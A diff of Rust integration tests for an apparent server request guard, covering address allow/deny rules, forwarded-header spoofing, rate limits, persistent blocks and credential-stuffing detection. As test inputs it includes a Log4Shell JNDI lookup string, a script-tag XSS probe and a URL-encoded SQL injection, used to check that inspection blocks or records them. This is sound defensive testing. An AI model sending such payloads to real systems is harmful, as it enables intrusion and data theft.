@@ -39,43 +39,136 @@ async fn address_rules_per_group_deny_wins_and_v6_ranges_match() {
     let s = TestServer::with(
         Options::default()
             .env("RAMPART_GUARD__TRUSTED_PROXIES", r#"["127.0.0.1"]"#)
-            .env("RAMPART_GUARD__ADMIN__ALLOW", r#"["10.0.0.0/8", "2001:db8:aa::/48"]"#)
-            .env("RAMPART_GUARD__DENY", r#"["2001:db8:aa:bad::/64", "203.0.113.0/24"]"#),
+            .env(
+                "RAMPART_GUARD__ADMIN__ALLOW",
+                r#"["10.0.0.0/8", "2001:db8:aa::/48"]"#,
+            )
+            .env(
+                "RAMPART_GUARD__DENY",
+                r#"["2001:db8:aa:bad::/64", "203.0.113.0/24"]"#,
+            ),
     )
     .await;
     let admin = "/api/v1/admin/events";
     // Not in the admin allow list: refused before any authentication.
     let (st, body) = status(&s, admin, &[]).await;
     assert_eq!((st, body["code"].as_str()), (403, Some("address_denied")));
-    assert_eq!(status(&s, "/api/v1/healthz", &[]).await.0, 200, "other groups open");
+    assert_eq!(
+        status(&s, "/api/v1/healthz", &[]).await.0,
+        200,
+        "other groups open"
+    );
     // From an allowed v4 and v6 address the admin group is reachable (401:
     // on to authentication).
-    assert_eq!(status(&s, admin, &[("x-forwarded-for", "10.9.8.7")]).await.0, 401);
-    assert_eq!(status(&s, admin, &[("x-forwarded-for", "2001:db8:aa:1::5")]).await.0, 401);
+    assert_eq!(
+        status(&s, admin, &[("x-forwarded-for", "10.9.8.7")])
+            .await
+            .0,
+        401
+    );
+    assert_eq!(
+        status(&s, admin, &[("x-forwarded-for", "2001:db8:aa:1::5")])
+            .await
+            .0,
+        401
+    );
     // Deny wins over allow, for v6 and v4.
     let (st, body) = status(&s, admin, &[("x-forwarded-for", "2001:db8:aa:bad::77")]).await;
     assert_eq!((st, body["code"].as_str()), (403, Some("address_denied")));
-    assert_eq!(status(&s, "/api/v1/healthz", &[("forwarded", "for=203.0.113.50")]).await.0, 403);
-    assert_eq!(status(&s, "/api/v1/healthz", &[("forwarded", "for=\"[2001:db8:aa:bad::1]:443\"")]).await.0, 403);
-    assert_eq!(status(&s, "/api/v1/healthz", &[("x-forwarded-for", "198.51.100.1")]).await.0, 200);
+    assert_eq!(
+        status(
+            &s,
+            "/api/v1/healthz",
+            &[("x-forwarded-for", "203.0.113.50")]
+        )
+        .await
+        .0,
+        403
+    );
+    // Only the configured header (X-Forwarded-For by default) is read: a
+    // client's own `Forwarded`, which a proxy passes through, is not.
+    assert_eq!(
+        status(&s, "/api/v1/healthz", &[("forwarded", "for=203.0.113.50")])
+            .await
+            .0,
+        200
+    );
+    let rfc = TestServer::with(
+        Options::default()
+            .env("RAMPART_GUARD__TRUSTED_PROXIES", r#"["127.0.0.1"]"#)
+            .env("RAMPART_GUARD__FORWARDED_HEADER", "forwarded")
+            .env("RAMPART_GUARD__DENY", r#"["2001:db8:aa:bad::/64"]"#),
+    )
+    .await;
+    assert_eq!(
+        status(
+            &rfc,
+            "/api/v1/healthz",
+            &[("forwarded", "for=\"[2001:db8:aa:bad::1]:443\"")]
+        )
+        .await
+        .0,
+        403
+    );
+    assert_eq!(
+        status(
+            &rfc,
+            "/api/v1/healthz",
+            &[("x-forwarded-for", "2001:db8:aa:bad::1")]
+        )
+        .await
+        .0,
+        200
+    );
+    assert_eq!(
+        status(
+            &s,
+            "/api/v1/healthz",
+            &[("x-forwarded-for", "198.51.100.1")]
+        )
+        .await
+        .0,
+        200
+    );
     let denied = guard_events(&s, "request_blocked").await;
-    assert!(denied.iter().any(|e| e["reason"].as_str().unwrap().starts_with("firewall.admin")), "{denied:?}");
+    assert!(
+        denied
+            .iter()
+            .any(|e| e["reason"].as_str().unwrap().starts_with("firewall.admin")),
+        "{denied:?}"
+    );
 }
 
 #[tokio::test]
 async fn forwarding_headers_from_untrusted_peers_change_nothing() {
     // No trusted proxies (the default): a spoofed header neither escapes a
     // deny nor earns an allow, and events carry the real peer.
-    let s = TestServer::with(Options::default().env("RAMPART_GUARD__ADMIN__ALLOW", r#"["10.0.0.0/8"]"#)).await;
-    for h in [("x-forwarded-for", "10.0.0.1"), ("forwarded", "for=10.0.0.1")] {
+    let s = TestServer::with(
+        Options::default().env("RAMPART_GUARD__ADMIN__ALLOW", r#"["10.0.0.0/8"]"#),
+    )
+    .await;
+    for h in [
+        ("x-forwarded-for", "10.0.0.1"),
+        ("forwarded", "for=10.0.0.1"),
+    ] {
         let (st, body) = status(&s, "/api/v1/admin/events", &[h]).await;
-        assert_eq!((st, body["code"].as_str()), (403, Some("address_denied")), "{h:?}");
+        assert_eq!(
+            (st, body["code"].as_str()),
+            (403, Some("address_denied")),
+            "{h:?}"
+        );
     }
     let denied = guard_events(&s, "request_blocked").await;
     assert!(denied.iter().all(|e| e["ip"] == "127.0.0.1"), "{denied:?}");
 
-    let s = TestServer::with(Options::default().env("RAMPART_GUARD__DENY", r#"["127.0.0.1"]"#)).await;
-    assert_eq!(status(&s, "/api/v1/healthz", &[("x-forwarded-for", "8.8.8.8")]).await.0, 403);
+    let s =
+        TestServer::with(Options::default().env("RAMPART_GUARD__DENY", r#"["127.0.0.1"]"#)).await;
+    assert_eq!(
+        status(&s, "/api/v1/healthz", &[("x-forwarded-for", "8.8.8.8")])
+            .await
+            .0,
+        403
+    );
 }
 
 #[tokio::test]
@@ -98,12 +191,25 @@ async fn over_the_rate_is_429_with_retry_after_per_address() {
         assert_eq!(login("198.51.100.1").await.unwrap().status(), 401);
     }
     let r = login("198.51.100.1").await.unwrap();
-    let retry: u64 = r.headers()["retry-after"].to_str().unwrap().parse().unwrap();
+    let retry: u64 = r.headers()["retry-after"]
+        .to_str()
+        .unwrap()
+        .parse()
+        .unwrap();
     assert!((1..=10).contains(&retry), "{retry}");
     problem(r, 429, "rate_limited").await;
     // Another address has its own budget; other groups are not limited.
     assert_eq!(login("198.51.100.2").await.unwrap().status(), 401);
-    assert_eq!(status(&s, "/api/v1/healthz", &[("x-forwarded-for", "198.51.100.1")]).await.0, 200);
+    assert_eq!(
+        status(
+            &s,
+            "/api/v1/healthz",
+            &[("x-forwarded-for", "198.51.100.1")]
+        )
+        .await
+        .0,
+        200
+    );
     assert!(!guard_events(&s, "rate_limited").await.is_empty());
 }
 
@@ -112,19 +218,31 @@ async fn blocks_refuse_survive_a_restart_and_lift() {
     let mut s = TestServer::start().await;
     let guard = s.running().guard.clone();
     let block = guard
-        .add_block("127.0.0.0/8", Some(Duration::from_secs(600)), "drill", "cli")
+        .add_block(
+            "127.0.0.0/8",
+            Some(Duration::from_secs(600)),
+            "drill",
+            "cli",
+        )
         .await
         .unwrap();
     let (st, body) = status(&s, "/api/v1/healthz", &[]).await;
     assert_eq!((st, body["code"].as_str()), (403, Some("address_blocked")));
     // A nonsensical block is refused with a reason.
     assert!(guard.add_block("0.0.0.0/0", None, "", "cli").await.is_err());
-    assert!(guard.add_block("10.1.2.3/8", None, "", "cli").await.is_err());
+    assert!(guard
+        .add_block("10.1.2.3/8", None, "", "cli")
+        .await
+        .is_err());
 
     // Stored: a restarted server still refuses.
     s.stop().await;
     let dir = std::mem::replace(&mut s.dir, tempfile::tempdir().unwrap());
-    let s2 = TestServer::with(Options { dir: Some(dir), ..Options::default() }).await;
+    let s2 = TestServer::with(Options {
+        dir: Some(dir),
+        ..Options::default()
+    })
+    .await;
     assert_eq!(status(&s2, "/api/v1/healthz", &[]).await.0, 403);
     assert!(s2.running().guard.lift_block(&block.id).await.unwrap());
     assert_eq!(status(&s2, "/api/v1/healthz", &[]).await.0, 200);
@@ -141,13 +259,19 @@ async fn repeat_offenders_get_doubling_capped_blocks_and_expiry_frees_them() {
     let guard = s.running().guard.clone();
     let mut lengths = Vec::new();
     for _ in 0..4 {
-        let b = guard.add_block("198.51.100.9", None, "", "auto:test").await.unwrap();
+        let b = guard
+            .add_block("198.51.100.9", None, "", "auto:test")
+            .await
+            .unwrap();
         lengths.push((b.expires_at.millis() - b.created_at.millis()) / 1000);
         assert_eq!(b.network, "198.51.100.9/32");
     }
     assert_eq!(lengths, [60, 120, 200, 200]);
     // An expired block lets the address back in (controlled clock).
-    guard.add_block("127.0.0.1", Some(Duration::from_secs(30)), "", "cli").await.unwrap();
+    guard
+        .add_block("127.0.0.1", Some(Duration::from_secs(30)), "", "cli")
+        .await
+        .unwrap();
     assert_eq!(status(&s, "/api/v1/healthz", &[]).await.0, 403);
     s.clock.advance(Duration::from_secs(31));
     assert_eq!(status(&s, "/api/v1/healthz", &[]).await.0, 200);
@@ -165,17 +289,39 @@ async fn administrators_block_and_unblock_through_the_api() {
             .json(&body)
             .send()
     };
-    let r = post(json!({"network": "203.0.113.0/24", "reason": "scraper"})).await.unwrap();
+    let r = post(json!({"network": "203.0.113.0/24", "reason": "scraper"}))
+        .await
+        .unwrap();
     assert_eq!(r.status(), 201);
     let b: Value = r.json().await.unwrap();
     assert_eq!(b["network"], "203.0.113.0/24");
     assert_eq!(b["offence"], 1);
-    problem(post(json!({"network": "127.0.0.0/8"})).await.unwrap(), 409, "block_includes_you").await;
-    problem(post(json!({"network": "not-an-ip"})).await.unwrap(), 422, "invalid_block").await;
-    let list: Value = s.get_auth("/api/v1/admin/blocks", &admin).await.json().await.unwrap();
+    problem(
+        post(json!({"network": "127.0.0.0/8"})).await.unwrap(),
+        409,
+        "block_includes_you",
+    )
+    .await;
+    problem(
+        post(json!({"network": "not-an-ip"})).await.unwrap(),
+        422,
+        "invalid_block",
+    )
+    .await;
+    let list: Value = s
+        .get_auth("/api/v1/admin/blocks", &admin)
+        .await
+        .json()
+        .await
+        .unwrap();
     assert_eq!(list["blocks"].as_array().unwrap().len(), 1);
     let id = b["id"].as_str().unwrap();
-    let del = |id: String| s.client.delete(s.url(&format!("/api/v1/admin/blocks/{id}"))).bearer_auth(&admin).send();
+    let del = |id: String| {
+        s.client
+            .delete(s.url(&format!("/api/v1/admin/blocks/{id}")))
+            .bearer_auth(&admin)
+            .send()
+    };
     assert_eq!(del(id.to_owned()).await.unwrap().status(), 204);
     assert_eq!(del(id.to_owned()).await.unwrap().status(), 404);
     assert_eq!(guard_events(&s, "block_added").await.len(), 1);
@@ -187,17 +333,29 @@ async fn a_block_set_on_one_node_is_refused_by_another_within_two_seconds() {
     let Some(url) = fresh_pg_schema().await else {
         return;
     };
-    let a = TestServer::with(Options { db: Db::Postgres(url.clone()), ..Options::default() }).await;
+    let a = TestServer::with(Options {
+        db: Db::Postgres(url.clone()),
+        ..Options::default()
+    })
+    .await;
     // Node b shares the database and, as every node must, the master key.
     let dir = tempfile::tempdir().unwrap();
     {
         use std::os::unix::fs::{DirBuilderExt, PermissionsExt};
-        std::fs::DirBuilder::new().mode(0o700).create(dir.path().join("data")).unwrap();
+        std::fs::DirBuilder::new()
+            .mode(0o700)
+            .create(dir.path().join("data"))
+            .unwrap();
         let key = dir.path().join("data").join("master.key");
         std::fs::copy(a.data_dir().join("master.key"), &key).unwrap();
         std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
     }
-    let b = TestServer::with(Options { db: Db::Postgres(url), dir: Some(dir), ..Options::default() }).await;
+    let b = TestServer::with(Options {
+        db: Db::Postgres(url),
+        dir: Some(dir),
+        ..Options::default()
+    })
+    .await;
     assert_eq!(status(&b, "/api/v1/healthz", &[]).await.0, 200);
     a.running()
         .guard
@@ -209,7 +367,10 @@ async fn a_block_set_on_one_node_is_refused_by_another_within_two_seconds() {
         if status(&b, "/api/v1/healthz", &[]).await.0 == 403 {
             break;
         }
-        assert!(started.elapsed() < Duration::from_millis(2500), "node b never refused");
+        assert!(
+            started.elapsed() < Duration::from_millis(2500),
+            "node b never refused"
+        );
         tokio::time::sleep(Duration::from_millis(100)).await;
     }
 }
@@ -232,28 +393,58 @@ async fn credential_stuffing_blocks_the_address_not_the_owner_elsewhere() {
     };
     // One guess each at many accounts (stuffing), the owner's among them.
     for i in 0..8 {
-        let email = if i == 3 { "owner@shop.example".to_owned() } else { format!("u{i}@shop.example") };
-        assert_eq!(login("198.51.100.66", email, "Leaked-Password-2019").await.unwrap().status(), 401);
+        let email = if i == 3 {
+            "owner@shop.example".to_owned()
+        } else {
+            format!("u{i}@shop.example")
+        };
+        assert_eq!(
+            login("198.51.100.66", email, "Leaked-Password-2019")
+                .await
+                .unwrap()
+                .status(),
+            401
+        );
     }
     let started = std::time::Instant::now();
     loop {
-        let r = login("198.51.100.66", "u9@shop.example".into(), "x").await.unwrap();
+        let r = login("198.51.100.66", "u9@shop.example".into(), "x")
+            .await
+            .unwrap();
         if r.status() == 403 {
             problem(r, 403, "address_blocked").await;
             break;
         }
-        assert!(started.elapsed() < Duration::from_secs(5), "attacker never blocked");
+        assert!(
+            started.elapsed() < Duration::from_secs(5),
+            "attacker never blocked"
+        );
         tokio::time::sleep(Duration::from_millis(50)).await;
     }
     // The owner, from another address, signs in at once.
-    assert_eq!(login("203.0.113.5", "owner@shop.example".into(), STRONG).await.unwrap().status(), 200);
+    assert_eq!(
+        login("203.0.113.5", "owner@shop.example".into(), STRONG)
+            .await
+            .unwrap()
+            .status(),
+        200
+    );
     let added = guard_events(&s, "block_added").await;
-    assert!(added[0]["reason"].as_str().unwrap().starts_with("ip_failures"), "{added:?}");
+    assert!(
+        added[0]["reason"]
+            .as_str()
+            .unwrap()
+            .starts_with("ip_failures"),
+        "{added:?}"
+    );
 }
 
 #[tokio::test]
 async fn inspection_blocks_heads_detects_record_bodies_and_modes_are_per_group() {
-    let s = TestServer::with(Options::default().env("RAMPART_GUARD__BLOCK_BODIES_OF", r#"["strict_notes"]"#)).await;
+    let s = TestServer::with(
+        Options::default().env("RAMPART_GUARD__BLOCK_BODIES_OF", r#"["strict_notes"]"#),
+    )
+    .await;
     // A probe in the query of an ordinary route: blocked, with an id to quote.
     let r = s
         .client
@@ -265,9 +456,22 @@ async fn inspection_blocks_heads_detects_record_bodies_and_modes_are_per_group()
     let body = problem(r, 403, "request_blocked").await;
     assert_eq!(body["request_id"], id.as_str());
     assert!(body["detail"].as_str().unwrap().contains(&id));
-    // An attack in a sign-in body: blocked.
-    let r = s.post("/api/v1/auth/login", json!({"email": "a@example.com", "password": "${jndi:ldap://x.example/a}"})).await;
+    // An attack in a sign-in body: blocked. (Passwords themselves are
+    // never run through the detectors: a password may contain anything.)
+    let r = s
+        .post(
+            "/api/v1/auth/login",
+            json!({"email": "${jndi:ldap://x.example/a}", "password": "x"}),
+        )
+        .await;
     problem(r, 403, "request_blocked").await;
+    let r = s
+        .post(
+            "/api/v1/auth/login",
+            json!({"email": "a@example.com", "password": "${jndi:ldap://x.example/a}"}),
+        )
+        .await;
+    problem(r, 401, "invalid_credentials").await;
 
     // A record that quotes an attack is stored (detect), and recorded.
     let admin = s.admin().await;
@@ -284,35 +488,76 @@ async fn inspection_blocks_heads_detects_record_bodies_and_modes_are_per_group()
         assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
     }
     let quote = json!({"text": "Customer wrote: <script>alert(1)</script> in the form"});
-    let r = s.post_auth("/api/v1/collections/notes/records", &admin, quote.clone()).await;
+    let r = s
+        .post_auth("/api/v1/collections/notes/records", &admin, quote.clone())
+        .await;
     assert_eq!(r.status(), 201);
-    let r = s.post_auth("/api/v1/collections/strict_notes/records", &admin, quote).await;
+    let r = s
+        .post_auth("/api/v1/collections/strict_notes/records", &admin, quote)
+        .await;
+    problem(r, 403, "request_blocked").await;
+    // Block-mode collections are matched as the router reads the name.
+    let r = s
+        .post_auth(
+            "/api/v1/collections/strict%5Fnotes/records",
+            &admin,
+            json!({"text": "<script>alert(1)</script>"}),
+        )
+        .await;
     problem(r, 403, "request_blocked").await;
     let matches = guard_events(&s, "inspection_match").await;
-    assert!(matches.iter().any(|e| e["reason"].as_str().unwrap().contains("detected")), "{matches:?}");
-    assert!(matches.iter().any(|e| e["reason"].as_str().unwrap().contains("blocked")), "{matches:?}");
+    assert!(
+        matches
+            .iter()
+            .any(|e| e["reason"].as_str().unwrap().contains("detected")),
+        "{matches:?}"
+    );
+    assert!(
+        matches
+            .iter()
+            .any(|e| e["reason"].as_str().unwrap().contains("blocked")),
+        "{matches:?}"
+    );
     // Events name rules, never the values.
-    assert!(matches.iter().all(|e| !e["reason"].as_str().unwrap().contains("alert(1)")));
+    assert!(matches
+        .iter()
+        .all(|e| !e["reason"].as_str().unwrap().contains("alert(1)")));
 
     // With inspection off for a group, the same probe passes.
     let off = TestServer::with(Options::default().env("RAMPART_GUARD__API__INSPECT", "off")).await;
-    let (st, _) = status(&off, "/api/v1/healthz?next=%27%20UNION%20SELECT%20password%20FROM%20accounts--", &[]).await;
+    let (st, _) = status(
+        &off,
+        "/api/v1/healthz?next=%27%20UNION%20SELECT%20password%20FROM%20accounts--",
+        &[],
+    )
+    .await;
     assert_eq!(st, 200);
 }
 
 #[tokio::test]
 async fn repeated_events_are_folded_into_counts_not_dropped() {
-    let s = TestServer::with(Options::default().env("RAMPART_GUARD__DENY", r#"["127.0.0.1"]"#)).await;
+    let s =
+        TestServer::with(Options::default().env("RAMPART_GUARD__DENY", r#"["127.0.0.1"]"#)).await;
     for _ in 0..25 {
         assert_eq!(status(&s, "/api/v1/healthz", &[]).await.0, 403);
     }
     tokio::time::sleep(Duration::from_millis(300)).await;
-    assert_eq!(guard_events(&s, "request_blocked").await.len(), 1, "one event for the first");
+    assert_eq!(
+        guard_events(&s, "request_blocked").await.len(),
+        1,
+        "one event for the first"
+    );
     s.clock.advance(Duration::from_secs(61));
     s.running().guard.flush_events().await;
     let events = guard_events(&s, "request_blocked").await;
     assert_eq!(events.len(), 2, "{events:?}");
-    assert!(events[0]["reason"].as_str().unwrap().contains("repeated 24 more times"), "{events:?}");
+    assert!(
+        events[0]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("repeated 24 more times"),
+        "{events:?}"
+    );
 }
 
 fn cli(args: &[&str]) -> (bool, String, String) {
@@ -336,17 +581,37 @@ async fn the_block_command_reaches_a_running_server() {
     let s = TestServer::start().await;
     let dir = s.data_dir();
     let dir = dir.to_str().unwrap();
-    let (ok, out, err) = cli(&["block", "add", "127.0.0.1", "--for", "2h", "--reason", "drill", "--data-dir", dir]);
+    let (ok, out, err) = cli(&[
+        "block",
+        "add",
+        "127.0.0.1",
+        "--for",
+        "2h",
+        "--reason",
+        "drill",
+        "--data-dir",
+        dir,
+    ]);
     assert!(ok, "{out}{err}");
     assert!(out.contains("blocked 127.0.0.1/32 until"), "{out}");
     let started = std::time::Instant::now();
     while status(&s, "/api/v1/healthz", &[]).await.0 != 403 {
-        assert!(started.elapsed() < Duration::from_millis(2500), "the running server never refused");
+        assert!(
+            started.elapsed() < Duration::from_millis(2500),
+            "the running server never refused"
+        );
         tokio::time::sleep(Duration::from_millis(100)).await;
     }
     let (ok, out, _) = cli(&["block", "list", "--data-dir", dir]);
-    assert!(ok && out.contains("127.0.0.1/32") && out.contains("drill"), "{out}");
-    let id = out.split_whitespace().find(|w| w.starts_with("blk_")).unwrap().to_owned();
+    assert!(
+        ok && out.contains("127.0.0.1/32") && out.contains("drill"),
+        "{out}"
+    );
+    let id = out
+        .split_whitespace()
+        .find(|w| w.starts_with("blk_"))
+        .unwrap()
+        .to_owned();
     let (ok, _, err) = cli(&["block", "add", "10.1.2.3/8", "--data-dir", dir]);
     assert!(!ok && err.contains("10.0.0.0/8"), "{err}");
     let (ok, _, err) = cli(&["block", "add", "1.2.3.4", "--for", "5x", "--data-dir", dir]);
@@ -355,9 +620,60 @@ async fn the_block_command_reaches_a_running_server() {
     assert!(ok, "{out}{err}");
     let started = std::time::Instant::now();
     while status(&s, "/api/v1/healthz", &[]).await.0 != 200 {
-        assert!(started.elapsed() < Duration::from_millis(2500), "never lifted");
+        assert!(
+            started.elapsed() < Duration::from_millis(2500),
+            "never lifted"
+        );
         tokio::time::sleep(Duration::from_millis(100)).await;
     }
     let (ok, _, err) = cli(&["block", "remove", &id, "--data-dir", dir]);
     assert!(!ok && err.contains("no block"), "{err}");
+}
+
+#[tokio::test]
+async fn shared_sign_in_limits_hold_across_nodes() {
+    let Some(url) = fresh_pg_schema().await else {
+        return;
+    };
+    let limits = |o: Options| {
+        o.env("RAMPART_GUARD__AUTH__IP_PER_MINUTE", "6")
+            .env("RAMPART_GUARD__AUTH__IP_BURST", "3")
+            .env("RAMPART_GUARD__SHARED_AUTH_LIMITS", "true")
+    };
+    let a = TestServer::with(limits(Options {
+        db: Db::Postgres(url.clone()),
+        ..Options::default()
+    }))
+    .await;
+    let dir = tempfile::tempdir().unwrap();
+    {
+        use std::os::unix::fs::{DirBuilderExt, PermissionsExt};
+        std::fs::DirBuilder::new()
+            .mode(0o700)
+            .create(dir.path().join("data"))
+            .unwrap();
+        let key = dir.path().join("data").join("master.key");
+        std::fs::copy(a.data_dir().join("master.key"), &key).unwrap();
+        std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
+    }
+    let b = TestServer::with(limits(Options {
+        db: Db::Postgres(url),
+        dir: Some(dir),
+        ..Options::default()
+    }))
+    .await;
+    let login = |s: &TestServer| {
+        s.client
+            .post(s.url("/api/v1/auth/login"))
+            .json(&json!({"email": "nobody@example.com", "password": "Wrong-Password-123"}))
+            .send()
+    };
+    // A burst of 3 across both nodes, not 3 on each.
+    assert_eq!(login(&a).await.unwrap().status(), 401);
+    assert_eq!(login(&b).await.unwrap().status(), 401);
+    assert_eq!(login(&a).await.unwrap().status(), 401);
+    let r = login(&b).await.unwrap();
+    assert!(r.headers().contains_key("retry-after"));
+    problem(r, 429, "rate_limited").await;
+    problem(login(&a).await.unwrap(), 429, "rate_limited").await;
 }
